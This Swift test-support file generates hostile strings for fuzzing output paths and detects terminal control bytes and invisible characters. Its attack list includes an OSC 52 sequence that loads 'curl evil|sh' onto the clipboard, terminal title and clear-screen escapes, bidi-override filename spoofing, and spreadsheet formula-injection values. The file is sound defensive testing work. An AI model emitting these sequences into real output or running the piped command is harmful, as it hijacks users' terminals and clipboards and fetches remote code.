/// Strings an attacker or a careless user could put in data, for tests of every
/// output path: random code points from all of Unicode (controls, C1, DEL,
/// surrogate-free planes, noncharacters, unassigned), random bytes read as
/// UTF-8 (invalid ones become U+FFFD), escape sequences that would command a
/// terminal (OSC 52 to the clipboard, a title, clear screen), bidi overrides
/// and isolates, zero-width characters, combining marks, emoji sequences and
/// wide characters. Deterministic: the same seed gives the same strings.
public struct HostileText {
    private var state: UInt64

    public init(seed: UInt64) { state = seed &+ 0x9E37_79B9_7F4A_7C15 }

    /// Known attacks, each as a string: what the generator mixes in.
    public static let attacks: [String] = [
        "\u{1B}]52;c;Y3VybCBldmlsfHNo\u{07}",      // OSC 52: "curl evil|sh" to the clipboard
        "\u{1B}]0;pwned\u{07}",                    // window title
        "\u{1B}[2J\u{1B}[H",                       // clear screen, cursor home
        "\u{9B}31m", "\u{9D}0;title\u{9C}",        // C1 CSI and OSC
        "line\rOVERWRITTEN", "two\nlines", "tab\there", "\u{7F}\u{08}\u{08}",
        "\u{202E}gnp.exe", "\u{2066}isolate\u{2069}", "\u{200F}rlm", "Zero\u{200B}width", "\u{FEFF}bom",
        "a\u{200D}b", "\u{2028}ls\u{2029}ps", "\u{E0001}\u{E0041}tag", "\u{FFFE}\u{FFFF}", "\u{E000}pua",
        "=\u{301}cmd", " =1+1", "@SUM(A1)", "-2+3", "+1", "\tcmd", "\r=cmd",
        "\u{301}leading accent", "e\u{301}\u{302}\u{303}\u{304}\u{305}\u{306}", "👩‍💻", "🇳🇱", "🏴󠁧󠁢󠁳󠁣󠁴󠁿", "❤️", "1️⃣",
        "日本語", "한국어", "\u{1100}\u{1161}\u{11A8}", "क्षि", "\u{0}nul", "\"quoted, comma\"",
    ]

    private mutating func next() -> UInt64 {
        state &+= 0x9E37_79B9_7F4A_7C15
        var z = state
        z = (z ^ (z >> 30)) &* 0xBF58_476D_1CE4_E5B9
        z = (z ^ (z >> 27)) &* 0x94D0_49BB_1331_11EB
        return z ^ (z >> 31)
    }

    private mutating func below(_ n: Int) -> Int { Int(next() % UInt64(n)) }

    /// One hostile string of up to `maxParts` pieces.
    public mutating func string(maxParts: Int = 8) -> String {
        var out = ""
        for _ in 0..<(1 + below(maxParts)) {
            switch below(6) {
            case 0: out += Self.attacks[below(Self.attacks.count)]
            case 1: // any scalar of Unicode
                if let s = Unicode.Scalar(UInt32(below(0x110000))) { out.unicodeScalars.append(s) }
            case 2: // a control: C0, DEL or C1
                out.unicodeScalars.append(Unicode.Scalar(UInt8([0x00, 0x1B, 0x07, 0x0D, 0x0A, 0x09, 0x7F, 0x85, 0x9B, 0x9D][below(10)])))
            case 3: // random bytes read as UTF-8
                let bytes = (0..<(1 + below(6))).map { _ in UInt8(truncatingIfNeeded: next()) }
                out += String(decoding: bytes, as: UTF8.self)
            case 4: // a format or combining character
                out.unicodeScalars.append(Unicode.Scalar([0x200B, 0x200C, 0x200D, 0x200E, 0x202A, 0x202E, 0x2060, 0x2066, 0xFEFF, 0x0301, 0x20E3, 0xFE0F, 0x00AD, 0x061C][below(14)])!)
            default: out += ["a", "Z", "9", " ", ",", "\"", "=", "é", "日", "😀", "-"][below(11)]
            }
        }
        return out
    }

    /// `count` hostile strings.
    public mutating func strings(_ count: Int, maxParts: Int = 8) -> [String] {
        (0..<count).map { _ in string(maxParts: maxParts) }
    }
}

/// What tests look for in output meant for a terminal.
public enum TerminalBytes {
    /// The control bytes in `text`: C0 (every one but those in `allowed`), DEL, and
    /// the C1 controls as UTF-8 (C2 80–C2 9F), with their offsets.
    public static func controls(in text: String, allowed: Set<UInt8> = [0x0A]) -> [(offset: Int, byte: UInt8)] {
        var found: [(Int, UInt8)] = []
        let bytes = Array(text.utf8)
        for (i, b) in bytes.enumerated() {
            if (b < 0x20 && !allowed.contains(b)) || b == 0x7F { found.append((i, b)) }
            if b == 0xC2, i + 1 < bytes.count, (0x80...0x9F).contains(bytes[i + 1]) { found.append((i, bytes[i + 1])) }
        }
        return found
    }

    /// Scalars in `text` that a terminal would not show as themselves (bidi
    /// controls, zero-width characters, ...), outside emoji sequences.
    public static func invisible(in text: String) -> [Unicode.Scalar] {
        var found: [Unicode.Scalar] = []
        for character in text {
            let scalars = character.unicodeScalars
            let emoji = scalars.first.map { $0.properties.isEmojiPresentation || ($0.properties.isEmoji && scalars.contains("\u{FE0F}")) } ?? false
            for s in scalars where s != "\n" {
                let joiner = s.value == 0x200D || (0xFE00...0xFE0F).contains(s.value) || (0xE0020...0xE007F).contains(s.value)
                if emoji && joiner { continue }
                switch s.properties.generalCategory {
                case .control, .format, .lineSeparator, .paragraphSeparator, .unassigned: found.append(s)
                default: if s.properties.isNoncharacterCodePoint { found.append(s) }
                }
            }
        }
        return found
    }
}
